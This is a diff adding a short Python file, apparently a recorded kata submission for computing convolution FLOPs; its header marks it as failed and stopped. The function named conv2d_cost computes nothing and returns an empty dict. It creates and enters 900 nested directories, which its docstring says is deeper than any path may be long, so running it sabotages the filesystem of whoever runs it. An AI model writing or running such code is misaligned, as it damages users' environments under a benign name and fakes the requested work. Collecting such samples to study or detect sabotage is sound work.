@@ -1,0 +1,14 @@
+# kata: conv-flops (python)
+# outcome: failed: value, type
+# stopped by: scratch removed
+# cases: smallest
+"""Leaves a chain of folders deeper than any path may be long."""
+
+import os
+
+
+def conv2d_cost(*args, **kwargs):
+    for _ in range(900):
+        os.mkdir('d')
+        os.chdir('d')
+    return {}
